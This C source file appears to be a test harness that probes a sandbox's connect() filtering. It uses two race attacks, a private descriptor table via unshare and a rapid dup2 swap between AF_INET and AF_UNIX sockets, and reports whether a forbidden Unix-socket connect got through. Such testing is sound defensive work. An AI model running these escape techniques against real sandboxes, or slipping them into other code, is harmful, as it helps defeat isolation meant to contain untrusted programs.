/*
 * connect_attack — races against the sandbox's connect() check.
 * Usage: connect_attack ATTACK PATH [N]
 *
 *   own-fdtable PATH  a thread with a descriptor table of its own puts an
 *                     AF_UNIX socket at the number where the main thread
 *                     keeps an AF_INET one, then connects it to PATH
 *   dup2-race PATH N  one thread connects descriptor 100 to PATH, N times,
 *                     while another swaps it between AF_INET and AF_UNIX
 *
 * Exit status: 0 every attempt was refused, 1 a connect() to PATH
 * SUCCEEDED (the boundary failed), 2 usage or setup error.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <unistd.h>

static struct sockaddr_un target = {.sun_family = AF_UNIX};
static int shared_fd;
static atomic_int stop;

static void *own_table(void *unused)
{
    (void)unused;
    if (unshare(CLONE_FILES) != 0 || dup2(socket(AF_UNIX, SOCK_STREAM, 0), shared_fd) < 0)
        return (void *)2L;
    if (connect(shared_fd, (struct sockaddr *)&target, sizeof target) == 0) {
        printf("ESCAPED: own-fdtable connected to %s\n", target.sun_path);
        return (void *)1L;
    }
    printf("refused: own-fdtable: %s\n", strerror(errno));
    return (void *)0L;
}

static int inet_fd, unix_fd;

/* As fast as it can: descriptor 100 is an AF_INET socket, then an AF_UNIX
 * one, and again. */
static void *swapper(void *unused)
{
    (void)unused;
    while (!atomic_load(&stop)) {
        dup2(inet_fd, 100);
        dup2(unix_fd, 100);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 3 || strlen(argv[2]) >= sizeof target.sun_path)
        return 2;
    strcpy(target.sun_path, argv[2]);
    pthread_t t;
    if (strcmp(argv[1], "own-fdtable") == 0) {
        shared_fd = socket(AF_INET, SOCK_STREAM, 0);
        void *rc;
        if (pthread_create(&t, NULL, own_table, NULL) != 0 || pthread_join(t, &rc) != 0)
            return 2;
        return (int)(long)rc;
    }
    if (strcmp(argv[1], "dup2-race") == 0 && argc > 3) {
        long n = atol(argv[3]), won = 0, refused = 0;
        inet_fd = socket(AF_INET, SOCK_STREAM, 0);
        unix_fd = socket(AF_UNIX, SOCK_STREAM, 0);
        if (pthread_create(&t, NULL, swapper, NULL) != 0)
            return 2;
        for (long i = 0; i < n && !won; i++) {
            if (connect(100, (struct sockaddr *)&target, sizeof target) == 0)
                won++;
            else
                refused++;
        }
        atomic_store(&stop, 1);
        pthread_join(t, NULL);
        if (won) {
            printf("ESCAPED: dup2-race connected after %ld refusals\n", refused);
            return 1;
        }
        printf("refused: dup2-race: %ld of %ld\n", refused, n);
        return 0;
    }
    fprintf(stderr, "unknown attack %s\n", argv[1]);
    return 2;
}
